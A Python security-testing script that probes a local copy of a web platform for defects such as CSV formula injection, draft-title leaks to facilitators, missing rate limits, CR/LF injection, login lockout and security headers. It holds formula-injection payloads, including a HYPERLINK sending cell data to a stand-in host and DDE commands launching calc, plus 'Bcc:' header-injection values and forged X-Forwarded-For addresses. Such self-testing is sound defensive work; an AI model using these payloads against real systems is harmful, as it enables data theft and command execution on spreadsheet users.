r"""A repeatable attack on a local copy of the platform, over HTTP only.

Each probe acts as an outside visitor or as one of the demo users would, and
says what it found; nothing here reads the database. It is meant for a copy
served on loopback with production settings and the demo content
(docs/security.md, "Running the attack"):

    python -m scripts.attack_probe --base-url http://127.0.0.1:8000 \
        --login c2-facilitator:PASSWORD --login inventory-editor:PASSWORD ...

It refuses any address that is not loopback: it submits forms, fills mailboxes
in the console backend and requests PDFs in parallel, which is an attack on
anything else. The exit status is 1 when a probe found a defect.

Probes (``--only`` picks some):

csv         submits entries, join requests and registrations whose fields are
            formulas, then downloads every CSV (public export, report figures,
            each admin listing's export as each signed-in user) and reads them
            as spreadsheets do (``tests/helpers/spreadsheets.py``)
scope       as each signed-in facilitator, looks for the title of a draft they
            may not see (a fresh public submission) in wagtail-localize's
            snippet API, bulk-action confirmations, choosers and reports
pdf         16 parallel requests for a published report's PDF; the inventory
            search latency before and during
status      what the public status page shows for a known reference
update      whether an update link works twice (needs ``--mail-log``)
oneline     CR/LF in one-line fields of the public forms
ratelimit   each public limit from IPv6 clients of one /64 behind one proxy
            (``X-Forwarded-For``, the server run with PROXY_COUNT=1), and the
            Retry-After of the refusals
lockout     failed sign-ins until the account is locked
headers     security headers on public and admin responses
documents   documents by id, signed out
"""

from __future__ import annotations

import argparse
import concurrent.futures
import html
import ipaddress
import re
import socket
import statistics
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from tests.spreadsheets import formula_cells

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "x;=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
]


def refuse_non_loopback(base_url):
    host = urllib.parse.urlsplit(base_url).hostname or ""
    try:
        addresses = {info[4][0] for info in socket.getaddrinfo(host, None)}
    except socket.gaierror:
        addresses = set()
    if not addresses or not all(
        ipaddress.ip_address(a.split("%")[0]).is_loopback for a in addresses
    ):
        raise SystemExit(f"{base_url}: not a loopback address; refusing to attack it.")


# --------------------------------------------------------------------- client


class Response:
    def __init__(self, status, headers, body, elapsed):
        self.status = status
        self.headers = headers
        self.body = body
        self.elapsed = elapsed

    @property
    def text(self):
        return self.body.decode("utf-8", "replace")


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


class Client:
    """A browser, enough of one.

    Cookies (``Secure`` ones too: the copy speaks plain HTTP on loopback), CSRF
    tokens, no automatic redirects.
    """

    def __init__(self, base_url, forwarded_for=None):
        self.base = base_url.rstrip("/")
        self.cookies = {}
        self.forwarded_for = forwarded_for
        self.opener = urllib.request.build_opener(NoRedirect)

    def request(self, method, path, data=None, headers=None, follow=True):
        url = path if path.startswith("http") else self.base + path
        for _ in range(5):
            head = {"User-Agent": "attack-probe"}
            if self.cookies:
                head["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
            if self.forwarded_for:
                head["X-Forwarded-For"] = self.forwarded_for
            head.update(headers or {})
            body = None
            if data is not None:
                body = urllib.parse.urlencode(data, doseq=True).encode()
                head["Content-Type"] = "application/x-www-form-urlencoded"
                head.setdefault("Referer", url)
            req = urllib.request.Request(  # noqa: S310 - loopback http only
                url, data=body, headers=head, method=method
            )
            start = time.perf_counter()
            try:
                raw = self.opener.open(req, timeout=120)
                status, hdrs, content = raw.status, raw.headers, raw.read()
            except urllib.error.HTTPError as error:
                status, hdrs, content = error.code, error.headers, error.read()
            elapsed = time.perf_counter() - start
            for cookie in hdrs.get_all("Set-Cookie") or []:
                name, _, rest = cookie.partition("=")
                value = rest.split(";", 1)[0]
                if value in ("", '""'):
                    self.cookies.pop(name, None)
                else:
                    self.cookies[name] = value
            if follow and status in (301, 302, 303) and hdrs.get("Location"):
                url = urllib.parse.urljoin(url, hdrs["Location"])
                method, data = "GET", None
                continue
            return Response(status, hdrs, content, elapsed)
        return Response(status, hdrs, content, elapsed)

    def get(self, path, **kwargs):
        return self.request("GET", path, **kwargs)

    def post(self, path, data, **kwargs):
        return self.request("POST", path, data=data, **kwargs)

    def form(self, path, fields, action=None, follow=True):
        """GET ``path``, posts its form (CSRF token included) with ``fields``."""
        page = self.get(path)
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        data = {"csrfmiddlewaretoken": token.group(1) if token else ""}
        data.update(fields)
        return self.post(action or path, data, follow=follow)

    def login(self, username, password):
        response = self.form(
            "/admin/login/", {"username": username, "password": password}
        )
        return "sessionid" in self.cookies, response


# -------------------------------------------------------------------- results


class Report:
    def __init__(self):
        self.lines = []
        self.defects = []

    def say(self, probe, message):
        line = f"[{probe}] {message}"
        self.lines.append(line)
        print(line, flush=True)

    def defect(self, probe, message):
        self.defects.append(f"[{probe}] {message}")
        self.say(probe, "DEFECT: " + message)


def marker():
    return "Probe " + uuid.uuid4().hex[:10]


def submit_entry(client, title, **overrides):
    fields = {
        "title": title,
        "summary": "A summary.",
        "language": "en",
        "description": "A description.",
        "activity_type": "project",
        "status": "ongoing",
        "action_lines": ["C5"],
        "countries": ["SEN"],
        "coverage": "national",
        "stakeholder_type": "civil-society",
        "organisation_name": "Probe organisation",
        "partner_names": "",
        "reporting_year": "2025",
        "website": "https://example.org/",
        "keywords": "probe",
        "contact_name": "Contact " + uuid.uuid4().hex[:8],
        "contact_email": f"probe-{uuid.uuid4().hex[:8]}@example.org",
    }
    fields.update(overrides)
    response = client.form("/inventory/submit/", fields, follow=False)
    location = response.headers.get("Location", "")
    reference = urllib.parse.parse_qs(urllib.parse.urlsplit(location).query).get(
        "reference", [""]
    )[0]
    return response, reference, fields


# --------------------------------------------------------------------- probes


def probe_csv(args, report, users):
    visitor = Client(args.base_url, forwarded_for="198.51.100.10")
    submitted = 0
    for payload in PAYLOADS:
        response, reference, _ = submit_entry(
            visitor,
            marker() + " " + payload.strip(),
            summary=payload,
            organisation_name=payload.strip() or "x",
            partner_names=f"{payload.strip()}; Partner",
            keywords=payload,
            contact_name=payload.strip() or "x",
        )
        submitted += bool(reference)
        for path in ("/action-lines/c5/team/", "/action-lines/c2/team/"):
            visitor.form(
                path,
                {
                    "organisation_name": payload,
                    "person_name": payload,
                    "email": f"p{uuid.uuid4().hex[:8]}@example.org",
                    "stakeholder_type": "other",
                    "country": "SEN",
                    "message": payload,
                },
                action=path + "join/",
            )
        meeting = "/action-lines/c5/team/meetings/work-plan-meeting/"
        visitor.form(
            meeting,
            {
                "name": payload,
                "email": f"p{uuid.uuid4().hex[:8]}@example.org",
                "organisation": payload,
                "stakeholder_type": "other",
                "country": "SEN",
                "attendance": "online",
            },
            action=meeting + "register/",
        )
    report.say("csv", f"{submitted}/{len(PAYLOADS)} formula entries accepted")

    downloads = {
        "public export": (visitor, "/inventory/export.csv"),
        "public export, q=probe": (visitor, "/inventory/export.csv?q=probe"),
        "report figures": (visitor, "/reports/report-2025/figures/csv/"),
    }
    admin_exports = [
        "/admin/snippets/inventory/inventoryentry/?export=csv",
        "/admin/snippets/home/stakeholderorganisation/?export=csv",
        "/admin/action_lines/teammembershiprequest/?export=csv",
        "/admin/action_lines/meetingregistration/?export=csv",
        "/admin/inventory/annualcontribution/?export=csv",
    ]
    for username, client in users.items():
        for path in admin_exports:
            downloads[f"{username} {path}"] = (client, path)
    checked = 0
    for label, (client, path) in downloads.items():
        response = client.get(path)
        kind = response.headers.get("Content-Type", "")
        if response.status != 200 or "csv" not in kind:
            report.say("csv", f"{label}: {response.status} {kind.split(';')[0]}")
            continue
        text = response.text.removeprefix("\ufeff")
        cells = formula_cells(text)
        checked += 1
        rows = text.count("\n")
        if cells:
            report.defect(
                "csv", f"{label}: {len(cells)} formula cells, e.g. {cells[:3]!r}"
            )
        else:
            report.say("csv", f"{label}: {rows} lines, no formula cell")
    report.say("csv", f"{checked} CSV files read as spreadsheets")


def probe_scope(args, report, users):
    visitor = Client(args.base_url, forwarded_for="198.51.100.11")
    secret = marker()
    _, reference, _ = submit_entry(visitor, secret + " draft title")
    report.say("scope", f"draft entry {reference!r} submitted with title {secret!r}")
    paths = [
        "/admin/localize/api/snippets/inventory/inventoryentry/",
        "/admin/localize/api/snippets/home/stakeholderorganisation/",
        "/admin/bulk/inventory/inventoryentry/delete/?id=all",
        "/admin/bulk/inventory/inventoryentry/publish/?id=all",
        "/admin/bulk/inventory/inventoryentry/unpublish/?id=all",
        "/admin/bulk/wagtailcore/page/delete/?id=all",
        "/admin/bulk/wagtailcore/page/publish/?id=all",
        "/admin/bulk/wagtailcore/page/unpublish/?id=all",
        "/admin/snippets/choose/inventory/inventoryentry/?q=" + secret.split()[1],
        "/admin/snippets/choose/inventory/inventoryentry/results/?q="
        + secret.split()[1],
        "/admin/snippets/inventory/inventoryentry/?q=" + secret.split()[1],
        "/admin/choose-page/search/?q=draft",
        "/admin/pages/search/?q=" + secret.split()[1],
        "/admin/api/main/pages/?search=" + secret.split()[1],
        "/admin/reports/page-types-usage/",
        "/admin/reports/workflow/",
        "/admin/reports/workflow_tasks/",
        "/admin/reports/site-history/",
        "/admin/reports/locked/",
        "/admin/reports/aging-pages/",
        "/admin/workflows/tasks/index/",
        "/admin/",
    ]
    # The views echo the query: what counts is the whole title, which the
    # query does not hold. Users who may see the entry are the control.
    title = secret + " draft title"
    for username, client in users.items():
        facilitator = "facilitator" in username
        statuses, seen = {}, 0
        for path in paths:
            response = client.get(path)
            statuses.setdefault(response.status, 0)
            statuses[response.status] += 1
            if title in html.unescape(response.text):
                seen += 1
                if facilitator:
                    report.defect(
                        "scope", f"{username} reads the draft title at {path}"
                    )
            if response.status >= 500:
                report.defect("scope", f"{username}: {path} answers {response.status}")
            # The bulk pages list what they would act on: count the items.
            if "/bulk/" in path and response.status == 200:
                items = len(re.findall(r"<li[ >]", response.text))
                report.say(
                    "scope", f"{username} {path}: {response.status}, {items} <li>"
                )
        report.say(
            "scope",
            f"{username}: {len(paths)} views, statuses {statuses}, "
            f"the draft's title in {seen}",
        )


def search_latency(base_url, count, forwarded_for):
    client = Client(base_url, forwarded_for=forwarded_for)
    times = []
    for i in range(count):
        response = client.get(f"/inventory/?q=water&page={1 + i % 3}")
        times.append(response.elapsed)
    return times


def probe_pdf(args, report, users):
    report_path = args.report_path.rstrip("/") + "/pdf/"
    before = search_latency(args.base_url, 10, "198.51.100.20")

    def fetch(i):
        client = Client(args.base_url, forwarded_for=f"198.51.100.{30 + i}")
        response = client.get(report_path)
        return (
            response.status,
            response.headers.get("Content-Type", ""),
            response.elapsed,
            len(response.body),
        )

    with concurrent.futures.ThreadPoolExecutor(
        max_workers=args.pdf_parallel + 1
    ) as pool:
        pdfs = [pool.submit(fetch, i) for i in range(args.pdf_parallel)]
        during = pool.submit(search_latency, args.base_url, 10, "198.51.100.21")
        results = [f.result() for f in pdfs]
        during = during.result()
    kinds = {}
    for status, kind, _, _ in results:
        key = f"{status} {kind.split(';')[0]}"
        kinds[key] = kinds.get(key, 0) + 1
    slowest = max(r[2] for r in results)
    report.say(
        "pdf",
        f"{args.pdf_parallel} parallel PDF requests: {kinds}, slowest {slowest:.2f}s",
    )
    report.say(
        "pdf",
        "inventory search median/max before: "
        f"{statistics.median(before) * 1000:.0f}/{max(before) * 1000:.0f} ms, during: "
        f"{statistics.median(during) * 1000:.0f}/{max(during) * 1000:.0f} ms",
    )
    if statistics.median(during) > 5 * max(statistics.median(before), 0.05):
        report.defect("pdf", "the PDF requests slow the inventory search fivefold")


def probe_status(args, report, users):
    visitor = Client(args.base_url, forwarded_for="198.51.100.40")
    _, reference, fields = submit_entry(visitor, marker() + " status")
    response = visitor.get("/inventory/status/?reference=" + reference)
    text = response.text
    leaked = [
        name for name in ("contact_email", "contact_name") if fields[name] in text
    ]
    report.say(
        "status",
        f"{reference}: {response.status}; the page shows the title: "
        f"{fields['title'] in text}",
    )
    if leaked:
        report.defect(
            "status", f"the status page shows {leaked} to anyone with the reference"
        )
    for known in args.reference:
        response = visitor.get("/inventory/status/?reference=" + known)
        body = re.sub(r"<[^>]+>", " ", response.text)
        body = re.sub(r"\s+", " ", html.unescape(body))
        main = body[body.find("Tracking") :][:600]
        report.say("status", f"{known}: {response.status}: {main!r}")
    # The status page is looked up by a guessable reference: is it limited?
    statuses = {}
    guesser = Client(args.base_url, forwarded_for="198.51.100.41")
    for i in range(150):
        status = guesser.get(f"/inventory/status/?reference=WSIS-26-AAA{i:03d}").status
        statuses[status] = statuses.get(status, 0) + 1
    report.say("status", f"150 reference guesses from one client: {statuses}")
    if 429 not in statuses:
        report.defect(
            "status", "reference guessing on the status page is not rate-limited"
        )


def latest_link(mail_logs, reference):
    text = "".join(Path(p).read_text(errors="replace") for p in mail_logs)
    text = re.sub(r"=\r?\n", "", text)  # quoted-printable soft breaks
    links = re.findall(r"https?://[^\s\"'<>]*/inventory/update/[A-Za-z0-9:_=-]+/", text)
    return links[-1] if links else None


def probe_update(args, report, users):
    if not args.mail_log:
        report.say("update", "skipped: --mail-log not given")
        return
    visitor = Client(args.base_url, forwarded_for="198.51.100.50")
    _, reference, fields = submit_entry(visitor, marker() + " update")
    visitor.form(
        "/inventory/update/",
        {"reference": reference, "contact_email": fields["contact_email"]},
    )
    time.sleep(args.mail_wait)
    link = latest_link(args.mail_log, reference)
    if not link:
        report.say("update", "no update link found in the mail log")
        return
    path = urllib.parse.urlsplit(link).path
    uses = []
    for i in range(2):
        response = visitor.form(
            path, {**fields, "title": f"{fields['title']} v{i + 2}"}, follow=False
        )
        uses.append(response.status)
    report.say("update", f"the same update link posted twice: {uses}")
    if uses[0] in (200, 302) and uses[1] == 302:
        report.defect("update", "an update link is accepted a second time")


def probe_oneline(args, report, users):
    visitor = Client(args.base_url, forwarded_for="198.51.100.60")
    for field in ("title", "organisation_name", "contact_name", "keywords"):
        value = f"{marker()}\r\nBcc: victim@example.org"
        title = value if field == "title" else marker() + " oneline"
        overrides = {} if field == "title" else {field: value}
        response, reference, _ = submit_entry(visitor, title, **overrides)
        report.say("oneline", f"entry {field} with CR/LF: {response.status}")
        if reference:
            report.defect("oneline", f"entry {field} with CR/LF accepted ({reference})")
    response = visitor.form(
        "/action-lines/c5/team/",
        {
            "organisation_name": "Org\r\nX",
            "person_name": "Name\r\nBcc: victim@example.org",
            "email": f"p{uuid.uuid4().hex[:8]}@example.org",
            "stakeholder_type": "other",
            "country": "SEN",
            "message": "multi\nline is fine here",
        },
        action="/action-lines/c5/team/join/",
        follow=False,
    )
    report.say("oneline", f"join request with CR/LF in names: {response.status}")
    if response.status in (302, 303):
        report.defect("oneline", "join request with CR/LF in one-line fields accepted")


def count_until_refused(base_url, path, addresses, limit, method="GET", data=None):
    """Request ``path`` ``limit + 5`` times, turning over ``addresses``.

    Returns how many passed, the first refusal's Retry-After.
    """
    clients = [Client(base_url, forwarded_for=a) for a in addresses]
    passed, retry_after = 0, None
    for i in range(limit + 5):
        client = clients[i % len(clients)]
        if method == "POST":
            response = client.form(path, data, follow=False)
        else:
            response = client.get(path)
        if response.status == 429:
            retry_after = response.headers.get("Retry-After")
            break
        passed += 1
    return passed, retry_after


def probe_ratelimit(args, report, users):
    prefix = f"2001:db8:{uuid.uuid4().int % 0xFFFF:x}:{uuid.uuid4().int % 0xFFFF:x}"
    same64 = [f"{prefix}::{i:x}" for i in range(1, 40)]
    limits = [
        ("/inventory/?q=x", args.limit_search, "GET", None),
        ("/search/?q=x", args.limit_search, "GET", None),
        ("/api/inventory/?q=x", args.limit_api, "GET", None),
        ("/inventory/export.csv?q=x", args.limit_export, "GET", None),
        (
            "/admin/password_reset/",
            args.limit_reset,
            "POST",
            {"email": f"nobody-{uuid.uuid4().hex[:6]}@example.org"},
        ),
    ]
    for path, limit, method, data in limits:
        passed, retry_after = count_until_refused(
            args.base_url, path, same64, limit, method, data
        )
        report.say(
            "ratelimit",
            f"{path} from {len(same64)} addresses of one /64: {passed} passed "
            f"(limit {limit}), Retry-After {retry_after}",
        )
        if passed > limit:
            report.defect(
                "ratelimit", f"{path}: {passed} requests passed a limit of {limit}"
            )
        elif (
            retry_after is None or not retry_after.isdigit() or int(retry_after) > 3600
        ):
            report.defect("ratelimit", f"{path}: Retry-After {retry_after!r}")
    # A /64 exhausted, the next /64 is a different client.
    other = Client(args.base_url, forwarded_for=f"{prefix[:-1]}f::1")
    report.say(
        "ratelimit", f"another /64: /inventory/ {other.get('/inventory/?q=x').status}"
    )
    # A forged address list: only the last (the proxy's view) counts.
    spoof = [f"203.0.113.{i}, {prefix}::1" for i in range(1, 20)]
    passed, _ = count_until_refused(
        args.base_url, "/search/?q=y", spoof, args.limit_search
    )
    report.say(
        "ratelimit", f"/search/ with forged left-most addresses: {passed} passed"
    )
    if passed > args.limit_search:
        report.defect("ratelimit", "a forged X-Forwarded-For entry escapes the limit")


def probe_lockout(args, report, users):
    client = Client(args.base_url, forwarded_for="198.51.100.70")
    statuses = []
    for _ in range(args.lockout_attempts):
        _, response = client.login(args.lockout_user, "wrong-" + uuid.uuid4().hex)
        statuses.append(response.status)
    report.say(
        "lockout",
        f"{args.lockout_attempts} wrong passwords for {args.lockout_user}: {statuses}",
    )
    if 429 not in statuses:
        report.defect("lockout", "no lockout after repeated failures")


def probe_headers(args, report, users):
    visitor = Client(args.base_url)
    wanted = [
        "Content-Security-Policy",
        "X-Content-Type-Options",
        "Referrer-Policy",
        "Cross-Origin-Opener-Policy",
        "X-Frame-Options",
    ]
    for path in (
        "/",
        "/inventory/",
        "/api/inventory/",
        "/admin/login/",
        "/inventory/export.csv",
    ):
        response = visitor.get(path)
        missing = [h for h in wanted if not response.headers.get(h)]
        report.say("headers", f"{path}: {response.status}, missing {missing or 'none'}")
        if missing and path != "/inventory/export.csv":
            report.defect("headers", f"{path} lacks {missing}")
    for name, value in visitor.get("/admin/login/").headers.items():
        if name.lower() == "set-cookie" and "Secure" not in value:
            report.defect("headers", f"cookie without Secure: {value.split(';')[0]}")
    error = visitor.get("/no-such-page-" + uuid.uuid4().hex)
    if "Traceback" in error.text or "DEBUG" in error.text:
        report.defect("headers", "the 404 page shows debug information")


def probe_documents(args, report, users):
    visitor = Client(args.base_url)
    statuses = {}
    for pk in range(1, args.documents + 1):
        response = visitor.get(f"/documents/{pk}/x.pdf")
        statuses[response.status] = statuses.get(response.status, 0) + 1
    report.say(
        "documents", f"documents 1-{args.documents} by id, signed out: {statuses}"
    )


PROBES = {
    "headers": probe_headers,
    "csv": probe_csv,
    "scope": probe_scope,
    "pdf": probe_pdf,
    "status": probe_status,
    "update": probe_update,
    "oneline": probe_oneline,
    "documents": probe_documents,
    "ratelimit": probe_ratelimit,
    "lockout": probe_lockout,
}


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--base-url", required=True)
    parser.add_argument(
        "--login",
        action="append",
        default=[],
        metavar="USER:PASSWORD",
        help="a demo sign-in (reset_demo_logins); repeat for each role",
    )
    parser.add_argument("--only", action="append", choices=sorted(PROBES))
    parser.add_argument("--report-path", default="/reports/report-2025/")
    parser.add_argument("--reference", action="append", default=[])
    parser.add_argument(
        "--mail-log",
        action="append",
        default=[],
        help="file where the console e-mail backend writes",
    )
    parser.add_argument("--mail-wait", type=float, default=3.0)
    parser.add_argument("--pdf-parallel", type=int, default=16)
    parser.add_argument("--limit-search", type=int, default=60)
    parser.add_argument("--limit-api", type=int, default=120)
    parser.add_argument("--limit-export", type=int, default=20)
    parser.add_argument("--limit-reset", type=int, default=5)
    parser.add_argument("--lockout-user", default="c5-facilitator")
    parser.add_argument("--lockout-attempts", type=int, default=7)
    parser.add_argument("--documents", type=int, default=10)
    args = parser.parse_args(argv)
    refuse_non_loopback(args.base_url)

    report = Report()
    users = {}
    for pair in args.login:
        username, _, password = pair.partition(":")
        client = Client(args.base_url, forwarded_for=f"198.51.100.{200 + len(users)}")
        ok, response = client.login(username, password)
        report.say("login", f"{username}: {'signed in' if ok else response.status}")
        if ok:
            users[username] = client
    for name in args.only or PROBES:
        try:
            PROBES[name](args, report, users)
        except Exception as error:  # noqa: BLE001 - the other probes still run
            report.defect(name, f"probe failed: {error!r}")
    print(f"\n{len(report.defects)} defect(s)")
    for line in report.defects:
        print("  " + line)
    return 1 if report.defects else 0


if __name__ == "__main__":
    sys.exit(main())
